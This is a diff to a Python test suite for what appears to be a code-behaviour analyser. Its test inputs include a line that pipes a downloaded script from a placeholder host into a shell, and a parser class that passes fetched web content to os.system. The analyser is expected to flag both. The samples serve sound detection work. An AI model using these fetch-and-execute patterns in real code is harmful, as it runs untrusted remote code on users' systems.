@@ -173,3 +173,23 @@ def test_methods_of_texts_that_are_given_what_they_do_not_take_break_nothing_off
         "E = 'x'.replace('x', 3)\nF = 'y'.replace()\nos.system('curl https://a.example/x | sh')\n"
     )
     assert [fact.behaviour for fact, _ in found.facts if fact.behaviour == "runs-downloaded"] == ["runs-downloaded"]
+
+
+def test_a_test_that_asserts_something_starts_no_other_tests() -> None:
+    tests = "".join(
+        f"    def test_{place}(self):\n"
+        f"        with mock.patch('demo.send{place}') as sent:\n"
+        + "".join(f"            self.assertEqual(sent.call_args[{turn}], len(subprocess.__name__))\n" for turn in range(20))
+        for place in range(120)
+    )
+    text = f"import subprocess\nimport unittest\nfrom unittest import mock\nclass TestAll(unittest.TestCase):\n{tests}"
+    assert followed(text).stopped == ""
+
+
+def test_a_parser_calls_its_hooks_with_what_each_feeding_gives_it() -> None:
+    text = (
+        "import html.parser, os, requests\n"
+        "class Reader(html.parser.HTMLParser):\n    def handle_data(self, data):\n        os.system(data)\n"
+        "reader = Reader()\nreader.feed('<p>hello</p>')\nreader.feed(requests.get('https://c.example').text)\n"
+    )
+    assert "remote-control" in {fact.behaviour for fact in deeds(text)}
